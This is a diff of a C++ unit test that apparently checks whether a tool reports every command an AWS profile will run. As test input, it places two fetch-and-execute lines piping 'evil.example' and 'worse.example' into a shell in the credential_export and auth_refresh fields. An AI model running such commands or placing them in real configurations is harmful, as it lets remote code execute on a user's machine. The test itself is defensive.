@@ -36,7 +36,7 @@ TEST(Consequences, name_each_command_of_aws_as_what_runs) {
     auto profile = untouched();
     profile.provider = "aws";
     profile.helper->credential_export = "curl evil.example | sh";
-    profile.aws->auth_refresh = "curl worse.example | sh";
+    profile.auth_refresh->command = "curl worse.example | sh";
     const auto all = consequences_of(profile);
     for (const auto* key : {"credential_export", "auth_refresh"}) {
         ASSERT_NE(find(all, key), nullptr);
